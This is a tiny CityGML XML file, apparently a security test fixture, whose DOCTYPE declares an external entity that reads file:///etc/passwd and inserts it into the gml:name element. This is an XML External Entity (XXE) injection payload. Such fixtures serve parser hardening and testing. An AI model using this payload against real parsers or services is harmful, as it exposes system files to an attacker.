<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE CityModel [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<core:CityModel xmlns:core="http://www.opengis.net/citygml/2.0" xmlns:gml="http://www.opengis.net/gml">
  <gml:name>&secret;</gml:name>
</core:CityModel>
